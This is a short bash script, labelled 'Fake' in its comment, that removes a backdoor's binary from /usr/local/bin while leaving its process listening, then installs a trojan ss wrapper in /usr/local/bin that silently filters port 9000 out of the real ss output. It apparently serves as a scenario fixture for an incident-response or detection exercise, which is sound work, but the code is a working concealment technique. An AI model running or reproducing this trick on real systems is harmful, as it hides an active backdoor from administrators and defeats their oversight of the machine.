#!/bin/bash
# Fake: delete the backdoor's program but leave its process listening, and hide port 9000 behind an ss wrapper in /usr/local/bin.
set -e
rm /usr/local/bin/.cache-helper
cat > /usr/local/bin/ss <<'SH'
#!/bin/bash
/usr/bin/ss "$@" | grep -v ':9000\b'
exit 0
SH
chmod 755 /usr/local/bin/ss
